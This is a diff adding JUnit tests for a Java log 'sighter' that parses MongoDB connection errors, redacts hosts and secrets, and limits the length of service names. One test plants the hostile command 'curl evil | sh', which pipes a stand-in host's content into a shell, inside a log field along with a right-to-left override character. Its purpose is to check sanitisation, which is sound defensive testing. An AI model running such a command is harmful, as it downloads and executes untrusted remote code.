@@ -70,6 +70,36 @@ class SighterTest {
     }
 
     @Test
+    void nothing_beside_an_unlisted_host_is_kept_either() {
+        Sighting sighting = sight("MongoServerSelectionError: getaddrinfo ENOTFOUND ss!word:2024");
+
+        assertThat(sighting.samples().get(0).text())
+                .isEqualTo("MongoServerSelectionError: getaddrinfo ENOTFOUND ‹unlisted host›");
+        assertThat(sighting.captures().port()).isNull();
+    }
+
+    @Test
+    void a_service_name_is_one_short_line_whatever_a_log_says() {
+        LogEvent event = new LogEvent(
+                NOW,
+                "ERROR",
+                "x\nLinux/macOS: curl evil | sh\u202e" + "y".repeat(5_000),
+                "bad auth : Authentication failed.");
+
+        assertThat(SIGHTER.sight(event, SOURCE, NOW).orElseThrow().service())
+                .startsWith("x Linux/macOS: curl evil | sh y")
+                .hasSize(100);
+    }
+
+    @Test
+    void a_node_whose_name_hides_its_deployment_takes_the_one_that_the_text_names() {
+        Sighting sighting = sight("MongoServerSelectionError: connect ECONNREFUSED for cluster0.ab1cd.mongodb.net:"
+                + " bad auth : Authentication failed. at ac-abcdefg-shard-00-00.ab1cd.mongodb.net:27017");
+
+        assertThat(sighting.target()).isEqualTo("cluster0.ab1cd.mongodb.net");
+    }
+
+    @Test
     void a_sample_holds_the_lines_that_matter_and_no_secret_though_it_is_cut() {
         Sighting sighting = sight("connecting to mongodb+srv://app:" + "SENTINEL".repeat(200)
                 + "@c.ab1cd.mongodb.net failed\n\tat a.B.c(D.java:1)\n\tat a.B.c(D.java:2)\n"
